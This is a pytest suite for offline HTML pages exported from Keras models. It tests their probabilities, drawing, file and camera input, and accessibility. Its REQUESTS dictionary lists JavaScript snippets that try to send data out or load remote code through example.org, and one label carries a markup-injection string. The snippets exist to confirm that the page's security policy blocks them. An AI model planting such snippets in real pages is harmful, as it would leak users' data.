"""An exported page in Chromium: Keras's probabilities, drawing, file and camera, and no request."""

import io
import json
import re
from collections.abc import Callable, Iterator
from typing import Any

import numpy as np
import pytest
from axe_playwright_python.sync_playwright import Axe
from libreoffice import needs_libreoffice
from PIL import Image
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tools.browser import FLAGS, chromium_path
from utils.data import load
from utils.data.scaled import scaled_picture
from utils.files import render
from utils.networks.saved import reference_model
from utils.settings import ROOT
from utils.spreadsheet import shrink
from utils.spreadsheet.libreoffice import named_ranges, recalculate_many
from utils.widgets.digits import prepare, raster

STROKES = json.loads((ROOT / "tests" / "browser" / "strokes.json").read_text(encoding="utf-8"))
MODELS = {
    "digits": reference_model("mnist_cnn"),
    "three": reference_model("three_classes"),
    "mixed": "mixed",
    "residual": "residual",
}
LABELS = {"three": ["airplane", "automobile", "</script><b>cat</b>"]}
ASK = """async pixels => {
  const {probabilities, pixels: seen} = await ask({pixels});
  return {probabilities, seen: [...seen]};
}"""
DRAWN = """async ({data, side}) => {
  const image = new ImageData(side, side);
  data.forEach((value, n) => image.data.set([value, value, value, 255], 4 * n));
  const bitmap = await createImageBitmap(image);
  return [...(await ask({bitmap, drawn: true, centre: true})).pixels];
}"""
# Each tries to send something out of the page, or to bring something in.
REQUESTS = {
    "fetch": "fetch('https://example.org/?' + document.title).catch(() => {})",
    "image": "new Image().src = 'https://example.org/x.png'",
    "socket": "new WebSocket('wss://example.org')",
    "beacon": "navigator.sendBeacon('https://example.org', 'x')",
    "script": "document.head.append(Object.assign(document.createElement('script'),"
              " {src: 'https://example.org/x.js'}))",
    "style": "document.head.append(Object.assign(document.createElement('link'),"
             " {rel: 'stylesheet', href: 'https://example.org/x.css'}))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'),"
             " {src: 'https://example.org'}))",
    "form": "(() => { const form = document.createElement('form');"
            " form.action = 'https://example.org'; document.body.append(form); form.submit(); })()",
}  # fmt: skip


def pictures(name: str) -> np.ndarray:
    """Return ten pictures (10, height, width, channels) uint8: five real ones, five random."""
    source = load("mnist" if name == "digits" else "cifar10").validation.images[:5]
    real = source if name in ("digits", "mixed") else np.stack([shrink(one) for one in source])
    return np.concatenate([real, np.random.default_rng(0).integers(0, 256, real.shape, np.uint8)])


@pytest.fixture(scope="module")
def written(keras_side: Callable[..., Any], tmp_path_factory: pytest.TempPathFactory):
    """Write each model's page and its workbook; return folder and answers."""
    folder, answers = tmp_path_factory.mktemp("exported"), {}
    for name, model in MODELS.items():
        np.save(folder / f"{name}.npy", pictures(name))
        files = {"page": folder / f"{name}.html", "workbook": folder / f"{name}.xlsx"}
        done = keras_side("paged", model=model, images=folder / f"{name}.npy",
                          labels=LABELS.get(name, []), **files)  # fmt: skip
        assert "error" not in done, done
        answers[name] = np.array(done["probabilities"])
    return folder, answers


@pytest.fixture(scope="module")
def filmed(chromium: Browser) -> Iterator[Browser]:
    """Yield a Chromium whose camera shows Chromium's own test film."""
    flags = [*FLAGS, "--use-fake-device-for-media-stream"]
    with chromium.browser_type.launch(executable_path=chromium_path(), args=flags) as browser:
        yield browser


@pytest.fixture
def opened(chromium: Browser, written) -> Iterator[Callable[..., Page]]:
    """Return a function that opens a model's page; errors in it end the test."""
    contexts: list[BrowserContext] = []
    errors: list[str] = []

    def open_page(name: str, browser: Browser = chromium, **options: Any) -> Page:
        contexts.append(browser.new_context(**options))
        page = contexts[-1].new_page()
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.goto((written[0] / f"{name}.html").as_uri())
        return page

    yield open_page
    for context in contexts:
        context.close()
    assert errors == []


def answers_of(page: Page, images: np.ndarray) -> np.ndarray:
    found = [page.evaluate(ASK, image.reshape(-1).tolist()) for image in images]
    assert [one["seen"] for one in found] == [image.reshape(-1).tolist() for image in images]
    return np.array([one["probabilities"] for one in found])


def said(page: Page) -> str:
    return page.locator("#said").inner_text()


def seen(page: Page) -> np.ndarray:
    """Return the pixels of what the network sees, as the page shows them, (n, 3)."""
    data = page.locator("#seen").evaluate(
        "one => [...one.getContext('2d').getImageData(0, 0, one.width, one.height).data]"
    )
    return np.array(data).reshape(-1, 4)[:, :3]


def png(pixels: np.ndarray) -> dict[str, Any]:
    """Return an array as a PNG for a file's input."""
    content = io.BytesIO()
    Image.fromarray(pixels).save(content, "PNG")
    return {"name": "p.png", "mimeType": "image/png", "buffer": content.getvalue()}


def settled(page: Page) -> Page:
    """Wait until nothing that was shown to the page is unanswered."""
    expect(page.locator("#answers")).to_have_attribute("aria-busy", "false")
    return page


def after_file(page: Page, pixels: np.ndarray) -> np.ndarray:
    """Choose a PNG of these pixels; return what the network sees of it, (n, 3)."""
    page.locator("#file").set_input_files(png(pixels))
    return seen(settled(page))


def test_each_kind_of_layer_gives_keras_probabilities(keras_side, chromium: Browser) -> None:
    page = chromium.new_page()
    for part in ("export_network.js", "export_worker.js"):
        page.add_script_tag(content=render(part))
    tried = keras_side("described")
    assert len(tried) == 21
    for name, one in tried.items():
        found = page.evaluate(
            """({network, weights, given}) => {
              const made = received(network, weights);
              return given.map(numbers => answered(made, Float64Array.from(numbers)));
            }""",
            one,
        )
        assert np.abs(np.array(found) - one["wanted"]).max() <= 1e-5, name
        assert np.ptp(one["wanted"], axis=0).max() > 1e-3, name  # they do depend on what is given
    page.close()


@pytest.mark.parametrize("name", MODELS)
def test_a_page_gives_keras_probabilities_of_real_and_random_pictures(name, written, opened):
    found = answers_of(opened(name), pictures(name))
    assert np.abs(found - written[1][name]).max() <= 1e-5
    assert np.ptp(found, axis=0).max() > 0.01


@needs_libreoffice
def test_page_and_workbook_agree(written, opened):
    paths = [written[0] / f"{name}.xlsx" for name in MODELS]
    for name, path, cells in zip(
        MODELS, paths, recalculate_many([(path, {}) for path in paths]), strict=True
    ):
        shares = [cells[place] for row in named_ranges(path)["shares"] for place in row]
        assert np.abs(answers_of(opened(name), pictures(name)[:1]) - shares).max() <= 1e-5, name


def draw(page: Page, strokes: list[list[list[int]]]) -> None:
    box = page.locator("#paper").bounding_box()
    assert box is not None
    for stroke in strokes:
        for n, (x, y) in enumerate(stroke):
            page.mouse.move(box["x"] + x * box["width"] / 280, box["y"] + y * box["height"] / 280)
            if n == 0:
                page.mouse.down()
        page.mouse.up()


def test_at_least_nine_of_ten_drawn_digits_are_read_and_centred(opened):
    page, right = opened("digits", viewport={"width": 1000, "height": 1200}), 0
    for digit, strokes in STROKES.items():
        draw(page, strokes)
        right += said(settled(page)).startswith(f"{digit}, ")
        image = seen(page)[:, 0].reshape(28, 28).astype(float)
        middle = [(image.sum(axis) * (np.arange(28) + 0.5)).sum() / image.sum() for axis in (0, 1)]
        assert np.allclose(middle, 14, atol=0.7)
        page.get_by_role("button", name="Clear").click()
        assert said(settled(page)) == "Nothing is drawn yet."
    assert right >= 9


def test_a_drawing_is_centred_as_the_drawing_pad_does_it(opened):
    page = opened("digits")
    for strokes in STROKES.values():
        paper = raster(strokes)
        found = page.evaluate(DRAWN, {"data": paper.reshape(-1).tolist(), "side": 280})
        wanted = prepare(paper)
        assert wanted is not None
        # Pillow counts a pixel at an area's edge whole or not at all, the page by its part.
        gaps = np.abs(np.array(found).reshape(28, 28) - wanted.centred.astype(int))
        assert gaps.max() <= 20 and gaps.mean() < 1.5


def test_a_digit_is_drawn_with_keys_undone_and_turned_round(opened):
    page = opened("digits")
    page.locator("#paper").focus()
    for key, times in (("ArrowUp", 8), (" ", 1), ("ArrowDown", 16), (" ", 1)):
        for _ in range(times):
            page.keyboard.press(key)
    assert said(settled(page)).startswith("1, ")
    first = seen(page)
    page.get_by_label("Turn light and dark round").check()
    assert np.array_equal(seen(settled(page)), 255 - first)
    page.get_by_role("button", name="Undo a stroke").click()
    assert said(settled(page)) == "Nothing is drawn yet."


def test_a_file_of_the_networks_size_is_seen_pixel_by_pixel(opened, written):
    page, (picture, *_) = opened("mixed"), pictures("mixed")
    assert np.array_equal(after_file(page, picture), picture.reshape(-1, 3))
    best = int(written[1]["mixed"][0].argmax())
    assert said(page) == f"{best}, {100 * written[1]['mixed'][0].max():.0f} %"
    assert page.locator("#rows tr.first th").inner_text() == str(best)


@pytest.mark.parametrize("size", [(90, 61), (17, 40), (5, 5), (32, 33)])
def test_a_larger_or_smaller_file_is_scaled_as_python_does_it(size, opened):
    pixels = np.random.default_rng(1).integers(0, 256, (*size, 3), np.uint8)
    wanted = scaled_picture(pixels, 32, 32).reshape(-1, 3)
    assert np.array_equal(after_file(opened("mixed"), pixels), wanted)
    grey = scaled_picture(pixels, 28, 28, 1).reshape(-1, 1)
    assert np.array_equal(after_file(opened("digits"), pixels), np.repeat(grey, 3, axis=1))


def test_what_is_clear_lies_on_white_and_no_picture_ends_in_a_sentence(opened):
    page = opened("mixed")
    assert (after_file(page, np.zeros((32, 32, 4), np.uint8)) == 255).all()
    page.locator("#file").set_input_files(
        {"name": "x.png", "mimeType": "image/png", "buffer": b"no picture"}
    )
    assert said(settled(page)).startswith("This browser can’t read that file as a picture")


def test_the_camera_is_on_between_two_clicks_and_gives_answers(opened, filmed):
    page = opened("mixed", filmed, permissions=["camera"])
    page.get_by_role("button", name="Start the camera").click()
    expect(page.locator("#said")).to_have_text(re.compile(r"^\d, \d+ %$"))
    assert np.ptp(seen(page)) > 50  # the test film has bright and dark
    track = page.evaluate_handle("part('video').srcObject.getTracks()[0]")
    assert track.evaluate("one => one.readyState") == "live"
    page.get_by_role("button", name="Stop the camera").click()
    assert track.evaluate("one => one.readyState") == "ended"
    expect(page.locator("#video")).to_be_hidden()
    expect(page.get_by_role("button", name="Start the camera")).to_be_enabled()


def test_a_camera_that_is_not_there_or_is_refused_is_a_sentence(opened, filmed, chromium):
    for browser, words in ((chromium, "This computer has no camera"), (filmed, "is refused")):
        options = {"permissions": ["camera"]} if browser is chromium else {}
        page = opened("mixed", browser, **options)
        page.get_by_role("button", name="Start the camera").click()
        expect(page.locator("#said")).to_contain_text(words)
        expect(page.get_by_role("button", name="Start the camera")).to_be_enabled()


@pytest.mark.parametrize("how", REQUESTS)
def test_no_request_leaves_even_if_the_page_tried(how, opened, written):
    page, asked = opened("three"), []
    page.context.on("request", lambda request: asked.append(request.url))
    page.context.on("requestfailed", lambda request: asked.remove(request.url))
    page.evaluate(
        "addEventListener('securitypolicyviolation',"
        " event => { window.refused = event.effectiveDirective; })"
    )
    page.evaluate(f"() => {{ {REQUESTS[how]} }}")
    for _ in range(3000):  # the page's rules refuse the second look of `wait_for_function`
        if page.evaluate("window.refused"):
            break
        page.wait_for_timeout(20)
    assert page.evaluate("window.refused")
    assert [url for url in asked if not url.startswith("blob:")] == []  # its own worker's


def test_the_page_asks_for_nothing_but_itself_and_shows_odd_names_as_text(chromium, written):
    page, asked = chromium.new_page(), []
    page.on("request", lambda request: asked.append(request.url))
    page.goto((written[0] / "three.html").as_uri())
    after_file(page, pictures("three")[0])
    assert {url.split(":")[0] for url in asked} == {"file", "blob"}
    assert len([url for url in asked if url.startswith("file")]) == 1
    names = page.locator("#rows th").all_inner_texts()
    assert [name.strip() for name in names] == LABELS["three"]
    page.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("name", ["digits", "three"])
def test_a_page_is_accessible_and_fits_a_phone(name, scheme, opened):
    page = opened(name, color_scheme=scheme, viewport={"width": 390, "height": 800})
    after_file(page, pictures(name)[0].repeat(3, axis=2)[..., :3])
    found = Axe().run(page)
    assert found.violations_count == 0, found.generate_report()
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    papers = {"light": "rgb(255, 255, 255)", "dark": "rgb(21, 24, 28)"}
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == papers[scheme]
